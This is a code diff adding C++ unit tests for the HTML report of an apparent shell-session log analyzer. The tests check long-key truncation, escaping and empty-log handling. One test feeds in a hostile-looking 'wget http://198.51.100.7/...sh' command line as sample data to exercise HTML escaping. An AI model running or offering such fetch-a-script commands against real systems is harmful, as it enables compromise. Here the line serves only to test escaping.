@@ -223,6 +223,28 @@ TEST_F(HtmlReportPage, ShowsIntelSectionsAndAnyTableNoSectionKnows) {
   EXPECT_TRUE(balanced_markup(html));
 }
 
+TEST_F(HtmlReportPage, CutsLongKeysKeepingTheFullTextInATooltip) {
+  const std::string long_line = "wget http://198.51.100.7/" + std::string(1000, 'A') + "\"&.sh";
+  report_.command_lines.rows.front().key = long_line;
+  const std::string html = render_report(report_, ReportFormat::Html, false);
+  const std::string full = "title=\"wget http://198.51.100.7/" + std::string(1000, 'A') + "&quot;&amp;.sh\">";
+  EXPECT_NE(html.find(full), std::string::npos);
+  EXPECT_NE(html.find(full + "wget http://198.51.100.7/" + std::string(300 - 25, 'A') + "\u2026</span>"),
+            std::string::npos);
+  EXPECT_TRUE(balanced_markup(html));
+}
+
+TEST(HtmlReportEmpty, AnEmptyLogGivesAPageWithoutCharts) {
+  testing::TempDir dir;
+  const AnalyzeReport report = testing::analyze_paths({dir.file("empty.json", "")});
+  const std::string html = render_report(report, ReportFormat::Html, false);
+  EXPECT_NE(html.find("id=\"total-records\" data-value=\"0\""), std::string::npos);
+  EXPECT_NE(html.find("No session ran a program."), std::string::npos);
+  EXPECT_EQ(html.find("class=\"chart flow\""), std::string::npos);
+  EXPECT_NE(html.find("empty.json: empty"), std::string::npos);
+  EXPECT_TRUE(balanced_markup(html));
+}
+
 // root(10): enable(6) -> system(5) -> shell(5); shell(3) -> sh(3); system(1) -> shell(1)
 PrefixNode sample_tree() {
   PrefixNode shell5{"shell", 5, {}};
